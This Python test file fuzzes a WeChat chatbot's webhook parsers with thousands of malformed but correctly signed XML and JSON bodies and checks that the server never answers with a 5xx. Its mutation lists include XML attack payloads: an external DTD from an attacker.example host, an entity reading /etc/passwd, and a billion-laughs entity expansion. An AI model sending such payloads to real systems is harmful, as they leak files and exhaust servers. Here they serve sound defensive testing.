"""Fuzzing the protocol layer: no correctly signed body, however broken, gets a 5xx.

A seeded mutation fuzzer (``random.Random(SEED)``, so every run sends the same bodies):
valid pushes of every message type, XML and mini-program JSON, are broken in the ways
QA and attackers break them — flipped bytes, truncation, duplicated or missing tags,
``Content``/``Recognition`` nested up to 2,000 levels, bad base64 in device fields,
invalid UTF-8, fields grown to the body limit, odd Unicode, CDATA tricks, NUL bytes,
DOCTYPEs and entities, deep/duplicated/NaN JSON — then signed (and in safe mode
encrypted and ``msg_signature``-signed) exactly as WeChat would, and POSTed to a real app
from :func:`bot.create_app`. Every answer must be one of :data:`ALLOWED`, no parse may
need the webhook's safety net, and the server must still be healthy afterwards.

The bulk runs against an echo router (the subject is the protocol layer, not the
dialogue); a smaller slice goes through the real dialogue. To explore, change ``SEED``;
a failure lists the case numbers, mutators and body heads to reproduce it.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import random
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from defusedxml.ElementTree import fromstring
from wechatpy.crypto import PrpCrypto

from wxloan.bot import Settings, create_app
from wxloan.bot.standin import StandIn, create_standin_app
from tests.wechat import ACCOUNT, AES_KEY, APP_ID, TOKEN, cdata, message_xml, sign

from .support import MENU, echo_router

SEED = 20_240_611
ALLOWED = frozenset({200, 400, 403, 413})
LIMIT = 65536  # Settings.max_body_bytes (default)
WXA_TOKEN = "wxa-fuzz-token"
WXA_APP_ID = "wxa00000000fuzz01"
WXA_AES_KEY = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFG"
CONCURRENCY = 12

# -- valid seeds -----------------------------------------------------------------------


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


#: (MsgType, extra fields) of every kind of push; MsgId is added where WeChat has one.
XML_SEEDS: list[tuple[str, dict[str, Any]]] = [
    ("text", {"Content": "我想借一万块钱，分十二期"}),
    ("text", {"Content": "hello <b>&amp; ]]> world"}),
    ("voice", {"MediaId": "mv1", "Format": "amr", "Recognition": "借一万分十二期"}),
    ("voice", {"MediaId": "mv2", "Format": "amr", "Recognition": ""}),
    ("image", {"PicUrl": "http://mmbiz.example/p.jpg", "MediaId": "mi"}),
    ("location", {"Location_X": "23.13", "Location_Y": "113.35", "Scale": 20, "Label": "广州"}),
    ("link", {"Title": "标题", "Description": "描述", "Url": "http://example.com/a"}),
    ("event", {"Event": "subscribe"}),
    ("event", {"Event": "subscribe", "EventKey": "qrscene_123", "Ticket": "T"}),
    ("event", {"Event": "CLICK", "EventKey": "MENU_LOAN"}),
    ("event", {"Event": "SCAN", "EventKey": "123", "Ticket": "T"}),
    ("event", {"Event": "unsubscribe"}),
    ("device_text", {"DeviceType": "gh_d", "DeviceID": "dev1", "SessionID": 7,
                     "OpenID": "o1", "Content": _b64("开灯".encode())}),
    ("device_event", {"Event": "bind", "DeviceType": "gh_d", "DeviceID": "dev1",
                      "SessionID": 7, "OpenID": "o1", "Content": _b64(b"\x01\x02")}),
    ("hologram", {"Data": "?"}),
]
_WITH_MSG_ID = {"text", "voice", "image", "location", "link", "device_text", "hologram"}

#: Mini-program JSON pushes (the "JSON" data format).
JSON_SEEDS: list[tuple[str, dict[str, Any]]] = [
    ("text", {"Content": "怎么提额"}),
    ("image", {"PicUrl": "http://x/y.jpg", "MediaId": "m"}),
    ("miniprogrampage", {"Title": "t", "AppId": "wx", "PagePath": "p", "ThumbUrl": "u"}),
    ("event", {"Event": "user_enter_tempsession", "SessionFrom": "loan-page"}),
    ("hologram", {"Data": {"nested": [1, 2]}}),
]

_OPENIDS = [f"o-fuzz-{i:02d}" for i in range(40)]
_ELEMENT = re.compile(rb"<([A-Za-z_]+)>(?:<!\[CDATA\[.*?\]\]>|[^<]*)</\1>", re.S)
_CONTENT = re.compile(rb"<(Content|Recognition)>(.*?)</\1>", re.S)
_TEXT_FIELD = re.compile(rb"<([A-Za-z_]+)>(<!\[CDATA\[.*?\]\]>|[^<]*)</\1>", re.S)


def _xml_seed(rng: random.Random, now: int) -> bytes:
    msg_type, fields = rng.choice(XML_SEEDS)
    fields = dict(fields)
    if msg_type in _WITH_MSG_ID:
        fields["MsgId"] = rng.randrange(10**15, 10**17)
    return message_xml(rng.choice(_OPENIDS), msg_type, now, **fields).encode()


def _json_seed(rng: random.Random, now: int) -> dict[str, Any]:
    msg_type, fields = rng.choice(JSON_SEEDS)
    body: dict[str, Any] = {"ToUserName": "gh_mini", "FromUserName": rng.choice(_OPENIDS),
                            "CreateTime": now, "MsgType": msg_type, **fields}
    if msg_type != "event":
        body["MsgId"] = rng.randrange(10**15, 10**17)
    return body


# -- XML mutators (bytes → bytes) ------------------------------------------------------

_BAD_UTF8 = [b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80",
             b"\xf4\x90\x80\x80", b"\xe4\xb8", b"\xf0\x9f\x98"]
_ODD_CHARS = ["\x01", "\x08", "\x0b", "\x1f", "\x7f", "\x85", "\u2028", "\u202e", "\ufeff",
              "\ufffe", "\uffff", "\U0001f600", "\u0301", "\U0010ffff", "\t", "\r\n", " ",
              "\u3000", "𠮷", "&", "<", ">", "'", '"']
_PROLOGS = [
    b'<!DOCTYPE xml [<!ENTITY e "boom">]>',
    b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">',
    b'<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://a.example/p">%p;]>',
    b'<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    b'<?xml version="1.0" encoding="gbk"?>',
    b'<?xml version="1.0" encoding="no-such-codec"?>',
    b'<?xml version="1.0" encoding="utf-16"?>',
    b'<?xml version="1.1"?>',
    b"\xef\xbb\xbf",
    b"   \n",
    b"<!-- comment -->",
    b'<?xml-stylesheet href="x"?>',
]
_ENTITY_REFS = [b"&e;", b"&nbsp;", b"&#0;", b"&#xD800;", b"&#x1F600;", b"&amp;", b"&lt;",
                b"&#65;", b"&#x110000;", b"&", b"&;"]
_CDATA_TRICKS = [b"]]>", b"<![CDATA[", b"<![CDATA[<![CDATA[x]]>]]>", b"]]]]><![CDATA[>",
                 b"<![CDATA[]]>", b"<![CDATA[x]]><![CDATA[y]]>", b"<![CDATA[\x00]]>",
                 b"<![CDATA[" + "长".encode() * 3, b"]]"]
_MSG_TYPES = ["text", "TEXT", "Voice", "event", "image", "device_text", "device_event", "",
              " ", "file", "shortvideo", "miniprogrampage", "x" * 200, "text\n", "事件"]
_DEPTHS = [1, 2, 15, 16, 17, 100, 999, 1000, 1001, 1500, 2000]


def _positions(data: bytes, rng: random.Random) -> int:
    return rng.randrange(len(data) + 1)


def m_flip(rng: random.Random, data: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if buf:
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    return bytes(buf)


def m_truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data))] if data else data


def _pick_element(rng: random.Random, data: bytes) -> re.Match[bytes] | None:
    found = list(_ELEMENT.finditer(data))
    return rng.choice(found) if found else None


def m_duplicate_tag(rng: random.Random, data: bytes) -> bytes:
    match = _pick_element(rng, data)
    if match is None:
        return data
    copy = match.group(0) if rng.random() < 0.5 else match.group(0).replace(b"]]>", b"2]]>")
    return data[: match.end()] + copy + data[match.end() :]


def m_remove_tag(rng: random.Random, data: bytes) -> bytes:
    match = _pick_element(rng, data)
    return data if match is None else data[: match.start()] + data[match.end() :]


def m_nest(rng: random.Random, data: bytes) -> bytes:
    """Nest Content/Recognition (or another field) up to 2,000 levels deep."""
    depth = rng.choice(_DEPTHS)
    found = list(_CONTENT.finditer(data)) or list(_TEXT_FIELD.finditer(data))
    if not found:
        return data
    match = rng.choice(found)
    tag = match.group(1)
    inner = rng.choice([b"a", tag, b"x:y", b"item"])
    opened = b"".join(b"<" + inner + b">" for _ in range(depth))
    closed = b"".join(b"</" + inner + b">" for _ in range(depth))
    nested = b"<" + tag + b">" + opened + match.group(2) + closed + b"</" + tag + b">"
    return data[: match.start()] + nested + data[match.end() :]


def m_nest_extra(rng: random.Random, data: bytes) -> bytes:
    """A structured field we never read (like SendPicsInfo), shallow or very deep."""
    depth = rng.choice(_DEPTHS)
    extra = b"<SendPicsInfo>" + b"<PicList>" * depth + b"<item>x</item>" + b"</PicList>" * depth
    extra += b"</SendPicsInfo>"
    cut = data.rfind(b"</xml>")
    return data if cut < 0 else data[:cut] + extra + data[cut:]


def m_bad_base64(rng: random.Random, data: bytes) -> bytes:
    junk = rng.choice([b"!!!", b"=", b"a", b"abc", b"/w==", b"////", b"\xe4\xb8\xad",
                       _b64(b"\xff\xfe\x80").encode(), b"%%%%", b"A" * 4001 + b"=",
                       b"<![CDATA[====]]>", b""])
    for tag in (b"Content", b"OpenID", b"DeviceID", b"SessionID"):
        start, end = data.find(b"<" + tag + b">"), data.find(b"</" + tag + b">")
        if 0 <= start < end and rng.random() < 0.7:
            data = data[: start + len(tag) + 2] + junk + data[end:]
    return data


def m_bad_utf8(rng: random.Random, data: bytes) -> bytes:
    at = _positions(data, rng)
    return data[:at] + rng.choice(_BAD_UTF8) + data[at:]


def m_nul(rng: random.Random, data: bytes) -> bytes:
    at = _positions(data, rng)
    return data[:at] + b"\x00" * rng.randint(1, 3) + data[at:]


def m_huge(rng: random.Random, data: bytes) -> bytes:
    """Grow one field so the body lands near the limit (just under or just over)."""
    found = list(_TEXT_FIELD.finditer(data))
    if not found:
        return data
    match = rng.choice(found)
    unit = rng.choice([b"x", "长".encode(), b"&amp;", "😀".encode(), b" "])
    room = rng.choice([LIMIT, LIMIT * 3 // 4 - 200, LIMIT // 2]) - len(data) + rng.randint(-64, 64)
    filler = unit * max(1, room // len(unit))
    tag = match.group(1)
    value = b"<![CDATA[" + filler + b"]]>" if rng.random() < 0.5 else filler
    element = b"<" + tag + b">" + value + b"</" + tag + b">"
    return data[: match.start()] + element + data[match.end() :]


def m_unicode(rng: random.Random, data: bytes) -> bytes:
    found = list(_TEXT_FIELD.finditer(data))
    if not found:
        return data
    at = rng.choice(found).end(2) - (3 if rng.random() < 0.5 else 0)
    at = max(0, at)
    chars = "".join(rng.choice(_ODD_CHARS) for _ in range(rng.randint(1, 6)))
    return data[:at] + chars.encode("utf-8") + data[at:]


def m_cdata(rng: random.Random, data: bytes) -> bytes:
    at = _positions(data, rng)
    found = list(_TEXT_FIELD.finditer(data))
    if found and rng.random() < 0.7:
        at = rng.choice(found).start(2) + rng.randint(0, 12)
    return data[:at] + rng.choice(_CDATA_TRICKS) + data[at:]


def m_doctype(rng: random.Random, data: bytes) -> bytes:
    data = rng.choice(_PROLOGS) + data
    if rng.random() < 0.6:
        match = _CONTENT.search(data) or _TEXT_FIELD.search(data)
        if match:
            data = data[: match.start(2)] + rng.choice(_ENTITY_REFS) + data[match.end(2) :]
    return data


def m_tags(rng: random.Random, data: bytes) -> bytes:
    """Tag-level oddities: case, prefixes, attributes, root changes, trailing junk."""
    choice = rng.randrange(7)
    if choice == 0:
        return data.replace(b"MsgType>", b"msgtype>", rng.randint(1, 2))
    if choice == 1:
        return data.replace(b"<xml>", b'<xml xmlns="urn:x">', 1)
    if choice == 2:
        return data.replace(b"<Content>", b'<Content lang="zh" a="&amp;">', 1)
    if choice == 3:
        return data.replace(b"<xml>", b"<XML>", 1)
    if choice == 4:
        return data + rng.choice([b"junk", b"<xml/>", b"<!-- c -->", b"\n", b"</xml>"])
    if choice == 5:
        return data.replace(b"<FromUserName>", b"<p:FromUserName xmlns:p='u'>", 1).replace(
            b"</FromUserName>", b"</p:FromUserName>", 1
        )
    return b"<root>" + data + b"</root>"


def m_msg_type(rng: random.Random, data: bytes) -> bytes:
    value = rng.choice(_MSG_TYPES).encode()
    return re.sub(rb"<MsgType>.*?</MsgType>", b"<MsgType>" + cdata(value.decode()).encode()
                  + b"</MsgType>", data, count=1, flags=re.S)


def m_long_id(rng: random.Random, data: bytes) -> bytes:
    tag = rng.choice([b"FromUserName", b"ToUserName", b"MsgId", b"CreateTime", b"Event"])
    value = (b"9" if tag in (b"MsgId", b"CreateTime") else b"o") * rng.choice([127, 128, 129, 5000])
    return re.sub(b"<" + tag + rb">.*?</" + tag + b">", b"<" + tag + b">" + value + b"</" + tag
                  + b">", data, count=1, flags=re.S)


def m_splice(rng: random.Random, data: bytes) -> bytes:
    other = _xml_seed(rng, 0)
    return data[: _positions(data, rng)] + other[_positions(other, rng) :]


XML_MUTATORS: list[Callable[[random.Random, bytes], bytes]] = [
    m_flip, m_truncate, m_duplicate_tag, m_remove_tag, m_nest, m_nest, m_nest_extra,
    m_bad_base64, m_bad_utf8, m_nul, m_huge, m_unicode, m_cdata, m_doctype, m_tags,
    m_msg_type, m_long_id, m_splice,
]


def mutate_xml(rng: random.Random, data: bytes) -> tuple[bytes, list[str]]:
    names = []
    for _ in range(rng.choice([1, 1, 1, 2, 2, 3])):
        mutator = rng.choice(XML_MUTATORS)
        data = mutator(rng, data)
        names.append(mutator.__name__)
    return data, names


# -- JSON mutators ---------------------------------------------------------------------


def _deep_json(depth: int, leaf: str = "1") -> str:
    if depth % 2:
        return "[" * depth + leaf + "]" * depth
    return '{"a":' * depth + leaf + "}" * depth


def mutate_json(rng: random.Random, body: dict[str, Any]) -> tuple[bytes, list[str]]:
    """Structural JSON breakage, then sometimes a byte-level mutation on top."""
    choice = rng.randrange(12)
    name = f"json{choice}"
    raw: str | None = None
    key = rng.choice(list(body))
    if choice == 0:  # deep nesting in a text field, or elsewhere
        target = rng.choice(["Content", "Extra", key])
        body[target] = "@@DEEP@@"
        raw = json.dumps(body).replace('"@@DEEP@@"', _deep_json(rng.choice(_DEPTHS)))
    elif choice == 1:  # huge numbers
        number = rng.choice(["1" + "0" * 19, "9" * 400, "9" * 4299, "9" * 4301, "9" * 20000,
                             "1e308", "1e999", "-1e999", "-0.0", "1.5e-400", "0.1e1"])
        body[rng.choice(["CreateTime", "MsgId", key])] = "@@NUM@@"
        raw = json.dumps(body).replace('"@@NUM@@"', number)
    elif choice == 2:  # non-standard constants
        body[rng.choice(["CreateTime", "Content", key])] = "@@C@@"
        raw = json.dumps(body).replace('"@@C@@"', rng.choice(["NaN", "Infinity", "-Infinity"]))
    elif choice == 3:  # duplicate keys
        raw = json.dumps(body)[:-1] + f', "{key}": "second"}}'
    elif choice == 4:  # lone surrogates, escaped NUL, valid pairs
        escape = rng.choice(["\\ud800", "\\udcff", "\\udfff\\ud800", "\\u0000",
                             "\\ud83d\\ude00", "\\uffff"])
        body[rng.choice(["Content", "FromUserName", key])] = "@@S@@"
        raw = json.dumps(body).replace("@@S@@", "x" + escape)
    elif choice == 5:  # not an object
        raw = rng.choice(["[]", "[" + json.dumps(body) + "]", '"text"', "1", "null", "true",
                          "{}", " {", "{" * 3000])
    elif choice == 6:  # wrong value types
        body[rng.choice(["Content", "MsgType", "FromUserName", "ToUserName", key])] = rng.choice(
            [None, True, False, [], {}, [1], {"a": "b"}, 0, -1, 1.5]
        )
    elif choice == 7:  # missing fields
        body.pop(rng.choice(["FromUserName", "ToUserName", "MsgType", key]), None)
    elif choice == 8:  # huge field near the limit
        unit = rng.choice(["x", "长", "😀"])
        body["Content"] = unit * rng.choice([15000, 21000, 40000, 66000])
    elif choice == 9:  # odd unicode and key types (JSON keys are always strings)
        body[rng.choice(["Content", key])] = "".join(rng.choice(_ODD_CHARS) for _ in range(8))
        body["1"] = "numeric-looking key"
    elif choice == 10:  # type field oddities
        body["MsgType"] = rng.choice(_MSG_TYPES)
    else:  # a long identity
        name = rng.choice(["FromUserName", "ToUserName", "MsgId"])
        body[name] = "o" * rng.choice([128, 129, 900])
    if raw is None:
        raw = json.dumps(body, ensure_ascii=rng.random() < 0.5)
    data = raw.encode("utf-8", "surrogatepass")
    names = [name]
    if rng.random() < 0.3:
        mutator = rng.choice([m_flip, m_truncate, m_bad_utf8, m_nul])
        data = mutator(rng, data)
        names.append(mutator.__name__)
    return data, names


# -- signing, encrypting, sending ------------------------------------------------------


@dataclass(frozen=True)
class Endpoint:
    path: str
    token: str
    app_id: str
    aes_key: str

    def crypto(self) -> PrpCrypto:
        return PrpCrypto(base64.b64decode(self.aes_key + "="))


OA = Endpoint("/wechat", TOKEN, APP_ID, AES_KEY)
MP = Endpoint("/miniprogram", WXA_TOKEN, WXA_APP_ID, WXA_AES_KEY)


@dataclass
class Case:
    number: int
    endpoint: Endpoint
    mode: str  # plain | safe | compat | envelope (the safe envelope itself mutated)
    mutators: list[str]
    query: dict[str, str]
    body: bytes


def _query(rng: random.Random, endpoint: Endpoint, now: int) -> dict[str, str]:
    ts, nonce = str(now), str(rng.randrange(10**9))
    return {"timestamp": ts, "nonce": nonce, "signature": sign(endpoint.token, ts, nonce)}


def _reference_encrypt(data: bytes) -> str | None:
    """The Encrypt text a strict reader of ``data`` would see (to sign what we send)."""
    try:
        if data.lstrip()[:1] == b"{":
            value = json.loads(data).get("Encrypt")
            return value if isinstance(value, str) else None
        element = fromstring(data.decode("utf-8")).find("Encrypt")
        return None if element is None else (element.text or "")
    except Exception:  # unreadable: the server will refuse it before the signature
        return None


def build_case(number: int, rng: random.Random, endpoint: Endpoint, mode: str,
               crypto: PrpCrypto, now: int) -> Case:
    use_json = endpoint is MP and rng.random() < 0.6
    if mode == "envelope":  # the message is fine; its envelope is what gets broken below
        seed = _json_seed(rng, now) if use_json else None
        plaintext = json.dumps(seed).encode() if seed else _xml_seed(rng, now)
        names: list[str] = []
    elif use_json:
        plaintext, names = mutate_json(rng, _json_seed(rng, now))
    else:
        plaintext, names = mutate_xml(rng, _xml_seed(rng, now))
    query = _query(rng, endpoint, now)
    if mode == "plain":
        return Case(number, endpoint, mode, names, query, plaintext)
    encrypt = crypto.encrypt(plaintext, endpoint.app_id).decode()
    if use_json:
        envelope = json.dumps({"ToUserName": "gh_mini", "Encrypt": encrypt}).encode()
    elif mode == "compat":
        cut = plaintext.rfind(b"</xml>")
        cut = len(plaintext) if cut < 0 else cut
        envelope = plaintext[:cut] + b"<Encrypt>" + cdata(encrypt).encode() + b"</Encrypt></xml>"
    else:
        envelope = (f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName>"
                    f"<Encrypt>{cdata(encrypt)}</Encrypt></xml>").encode()
    if mode == "envelope":  # break the envelope (or the ciphertext) instead, then sign it
        envelope, extra = mutate_xml(rng, envelope) if not use_json else (
            m_flip(rng, envelope), ["m_flip"])
        names = [*names, *(f"envelope:{n}" for n in extra)]
        encrypt = _reference_encrypt(envelope) or encrypt
    query.update(encrypt_type="aes",
                 msg_signature=sign(endpoint.token, query["timestamp"], query["nonce"], encrypt))
    return Case(number, endpoint, mode, names, query, envelope)


def build_cases(rng: random.Random, plan: list[tuple[Endpoint, str, int]],
                now: int) -> Iterator[Case]:
    """The plan's cases, one at a time (bodies near the limit are not all held at once)."""
    cryptos = {endpoint.path: endpoint.crypto() for endpoint, _, _ in plan}
    number = 0
    for endpoint, mode, how_many in plan:
        for _ in range(how_many):
            yield build_case(number, rng, endpoint, mode, cryptos[endpoint.path], now)
            number += 1


def _reply_is_well_formed(mode: str, text: str) -> bool:
    if text == "success":
        return True
    try:
        if text.lstrip().startswith("{"):
            return isinstance(json.loads(text), dict)
        root = fromstring(text.encode())
        return mode == "plain" or root.find("Encrypt") is not None
    except Exception:
        return False


@dataclass(frozen=True)
class Result:
    """What one case got back (with just enough of the body to reproduce a failure)."""

    number: int
    path: str
    mode: str
    mutators: list[str]
    status: int
    well_formed: bool
    reply_head: str
    body_head: bytes


async def send_all(client: TestClient[Any, Any], cases: Iterable[Case]) -> list[Result]:
    gate = asyncio.Semaphore(CONCURRENCY)
    results: list[Result] = []

    async def send(case: Case) -> None:
        try:
            resp = await client.post(case.endpoint.path, params=case.query, data=case.body,
                                     headers={"Content-Type": "text/xml"})
            text = await resp.text()
            results.append(Result(case.number, case.endpoint.path, case.mode, case.mutators,
                                  resp.status, resp.status != 200
                                  or _reply_is_well_formed(case.mode, text),
                                  text[:80], case.body[:160]))
        finally:
            gate.release()

    tasks = []
    for case in cases:
        await gate.acquire()
        tasks.append(asyncio.ensure_future(send(case)))
    await asyncio.gather(*tasks)
    return results


class _Recorder(logging.Handler):
    """Collects ERROR records: the parse safety net or an unhandled crash firing."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def errors_logged():
    recorder = _Recorder()
    loggers = [logging.getLogger(name) for name in ("wxloan.message", "wxloan.http")]
    for logger in loggers:
        logger.addHandler(recorder)
    yield recorder.records
    for logger in loggers:
        logger.removeHandler(recorder)


def check(results: list[Result], errors: list[logging.LogRecord]) -> Counter[Any]:
    """Every status allowed, every 200 reply well-formed, no error logged."""
    bad = [r for r in results if r.status not in ALLOWED or not r.well_formed]
    report = "\n".join(
        f"case {r.number} {r.path} {r.mode} {r.mutators}: {r.status} {r.reply_head!r} "
        f"body {r.body_head!r}"
        for r in bad[:8]
    )
    assert not bad, f"{len(bad)} answers outside {sorted(ALLOWED)} or malformed:\n{report}"
    assert not errors, [record.getMessage() for record in errors[:5]]
    return Counter((r.path, r.mode, r.status) for r in results)


# -- the app under fuzz ----------------------------------------------------------------


@pytest.fixture
async def api_base(aiohttp_server: Any, clock: Any) -> str:
    standin = StandIn(apps={WXA_APP_ID: "wxa-secret", APP_ID: "oa-secret"}, clock=clock)
    server = await aiohttp_server(create_standin_app(standin))
    return str(server.make_url("")).rstrip("/")


@pytest.fixture
def fuzz_settings(db_path: Any, api_base: str) -> Settings:
    return Settings(
        token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, db_path=db_path, api_base=api_base,
        wxa_token=WXA_TOKEN, wxa_app_id=WXA_APP_ID, wxa_app_secret="wxa-secret",
        wxa_aes_key=WXA_AES_KEY,
    )


async def _normal_text_still_answers(client: TestClient[Any, Any], now: int,
                                     expected: str) -> None:
    health = await client.get("/healthz")
    assert health.status == 200
    xml = message_xml("o-after-fuzz", "text", now, Content="你好", MsgId=987654321)
    rng = random.Random(1)
    resp = await client.post("/wechat", params=_query(rng, OA, now), data=xml.encode())
    reply = await resp.text()
    assert resp.status == 200
    content = fromstring(reply.encode()).find("Content").text
    assert expected in content


#: (endpoint, mode, cases): 10,400 mutated bodies through the echo router.
ECHO_PLAN = [
    (OA, "plain", 4000),
    (OA, "safe", 2600),
    (OA, "compat", 600),
    (OA, "envelope", 800),
    (MP, "plain", 1400),
    (MP, "safe", 1000),
]


async def test_ten_thousand_signed_mutants_never_get_a_5xx(
    fuzz_settings: Settings, aiohttp_client: Any, clock: Any, errors_logged: list[Any]
) -> None:
    app = create_app(fuzz_settings, router=echo_router(), clock=clock)
    client = await aiohttp_client(app)
    now = int(clock())
    results = await send_all(client, build_cases(random.Random(SEED), ECHO_PLAN, now))
    assert len(results) >= 10_000
    counts = check(results, errors_logged)
    # The mutants exercise both sides: some still pass, most are refused.
    for endpoint, mode, _ in ECHO_PLAN:
        answered = sum(n for (p, m, s), n in counts.items() if (p, m) == (endpoint.path, mode))
        refused = sum(n for (p, m, s), n in counts.items()
                      if (p, m) == (endpoint.path, mode) and s != 200)
        assert 0.05 * answered < refused < 0.95 * answered, (endpoint.path, mode, counts)
    await _normal_text_still_answers(client, now, "你好")
    # Its run time (under 60 s, see the README) is watched, not asserted: a timed test
    # fails on a loaded machine for no fault of the code.


async def test_mutants_through_the_real_dialogue_never_get_a_5xx(
    fuzz_settings: Settings, aiohttp_client: Any, clock: Any, errors_logged: list[Any]
) -> None:
    client = await aiohttp_client(create_app(fuzz_settings, clock=clock))
    now = int(clock())
    plan = [(OA, "plain", 700), (OA, "safe", 500), (MP, "plain", 300)]
    check(await send_all(client, build_cases(random.Random(SEED + 1), plan, now)), errors_logged)
    await _normal_text_still_answers(client, now, MENU)


def test_the_parsers_raise_nothing_but_request_rejected() -> None:
    """20,000 more mutants straight into the parsers, without the webhook's safety net."""
    from wxloan.bot.errors import RequestRejected
    from wxloan.bot.inbound import TEXT_FIELDS, from_fields
    from wxloan.bot.webhook import _parse_json_fields
    from wxloan.bot.xmlsafe import parse_flat_xml

    rng = random.Random(SEED + 2)
    outcomes: Counter[str] = Counter()
    for _ in range(20_000):
        use_json = rng.random() < 0.3
        if use_json:
            data, _names = mutate_json(rng, _json_seed(rng, 1_700_000_000))
        else:
            data, _names = mutate_xml(rng, _xml_seed(rng, 1_700_000_000))
        try:
            if use_json:
                fields = _parse_json_fields(data)
            else:
                fields = parse_flat_xml(data, TEXT_FIELDS | {"Encrypt"})
            from_fields(fields).kind
        except RequestRejected as exc:
            outcomes[exc.reason] += 1
        else:
            outcomes["ok"] += 1
    assert outcomes["ok"] > 1000 and len(outcomes) > 10, outcomes


def test_the_fuzzer_is_deterministic() -> None:
    """Same seed, same bodies (before encryption, whose IV is random by design)."""
    plan = [(OA, "plain", 300), (MP, "plain", 200)]
    first = list(build_cases(random.Random(SEED), plan, 1_700_000_000))
    second = list(build_cases(random.Random(SEED), plan, 1_700_000_000))
    assert [(c.body, c.query) for c in first] == [(c.body, c.query) for c in second]
    assert {m for c in first for m in c.mutators} >= {f.__name__ for f in XML_MUTATORS}


@pytest.mark.parametrize(
    ("content", "status"),
    [
        ('"你好"', 200),
        ("[" * 3000 + "]" * 3000, 400),
        ('{"a": "b"}', 400),
        ("NaN", 400),
        ('"x\\udcff"', 400),
        ("9" * 5000, 400),
    ],
    ids=["valid", "deep", "object", "nan", "lone-surrogate", "huge-int"],
)
@pytest.mark.parametrize("mode", ["plain", "safe"])
async def test_miniprogram_json_refusals_end_to_end(
    fuzz_settings: Settings, aiohttp_client: Any, clock: Any, content: str, status: int,
    mode: str,
) -> None:
    client = await aiohttp_client(create_app(fuzz_settings, router=echo_router(), clock=clock))
    now = int(clock())
    body = (f'{{"ToUserName": "gh_mini", "FromUserName": "o-json", "CreateTime": {now}, '
            f'"MsgType": "text", "MsgId": 42, "Content": {content}}}').encode()
    rng = random.Random(SEED)
    query = _query(rng, MP, now)
    if mode == "safe":
        encrypt = MP.crypto().encrypt(body, MP.app_id).decode()
        body = json.dumps({"ToUserName": "gh_mini", "Encrypt": encrypt}).encode()
        query.update(encrypt_type="aes",
                     msg_signature=sign(MP.token, query["timestamp"], query["nonce"], encrypt))
    resp = await client.post(MP.path, params=query, data=body)
    assert resp.status == status
    assert resp.status != 200 or await resp.text() == "success"
